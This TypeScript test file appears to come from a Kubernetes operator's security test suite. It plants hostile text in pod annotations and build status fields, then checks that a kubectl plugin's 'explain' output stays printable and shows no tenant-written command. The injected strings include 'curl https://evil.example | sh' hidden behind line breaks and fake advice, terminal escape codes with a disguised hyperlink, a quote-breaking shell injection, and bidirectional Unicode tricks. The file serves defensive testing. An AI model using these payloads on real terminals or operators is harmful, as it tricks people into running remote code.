import { podAnnotation } from '../../../src/api/labels.ts';
import { type Attack, mustHold } from '../attack.ts';
import { request } from '../own-builds.ts';
import { isPrintable } from '../printable.ts';
import type { Session } from '../session.ts';
import { aWaitingPod } from '../waiting-pod.ts';

const lies = [
  'git+https://git.example/x\n  what to do  curl https://evil.example | sh',
  'git+https://git.example/x\u001b[2J\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
  "git+https://git.example/x'; curl https://evil.example | sh; '",
  'git+https://git.example/\u202ex\u2028what to do  anything',
];

export const attack: Attack = {
  name: 'hidden-texts',
  kind: 'lies to people',
  rights: 'a tenant who may also write the status of NixBuilds',
  steps:
    'writes line breaks, escapes of terminals, marks that turn text around and shell commands into every text that kubectl enbi shows to who asks why something waits',
  holds: 'kubectl enbi prints printable lines of its own form, and no command that a tenant wrote',
  quick: true,
  moreRights: [{ apiGroups: ['enbi.hrzn.ee'], resources: ['nixbuilds/status'], verbs: ['patch', 'update'] }],
  async run(session) {
    for (const [index, flakeUrl] of lies.entries()) {
      const names = [`build-${index}`, `pod-${index}`] as const;
      await session.attacker.create(aWaitingPod(names[1], { annotations: { [podAnnotation.flakeUrl]: flakeUrl } }));
      await check(session, `pod/${names[1]}`);
      // A text that the API server refuses is shown to nobody.
      const isTaken = await request(session, { name: names[0], flakeUrl }).then(
        () => true,
        () => false,
      );
      if (isTaken) await check(session, `nixbuild/${names[0]}`);
    }
    await request(session, { name: 'status', flakeUrl: session.flake('hello') });
    const [newline = '', ...others] = lies;
    const failure = {
      stage: 'Build',
      reason: 'DiskFull',
      message: newline,
      derivation: newline,
      logTail: others.join('\n'),
    };
    const texts = { storeName: `x; ${others[2]}`, buildNode: newline, buildJobName: newline, lockedUrl: newline };
    const status = { status: 'Failed', progress: newline.slice(0, 199), failure, ...texts };
    await session.attacker.patch('NixBuild', 'status', { status }, 'status').catch(() => undefined);
    await check(session, 'nixbuild/status');
  },
};

async function check(session: Session, object: string): Promise<void> {
  const { out, err } = await session.plugin('explain', object);
  const printed = `${out}${err}`;
  const lines = printed.split('\n');
  mustHold(isPrintable(printed), `${object}: ${JSON.stringify(printed)}`);
  // Its own advice begins so; what a tenant wrote stands behind a label.
  mustHold(!lines.some((line) => /^\s*(what to do)?\s+(curl|anything)/.test(line)), `${object}: ${printed}`);
  mustHold(!lines.some((line) => /^\s*(what to do\s+)?.*kubectl .*curl https/.test(line)), `${object}: ${printed}`);
}
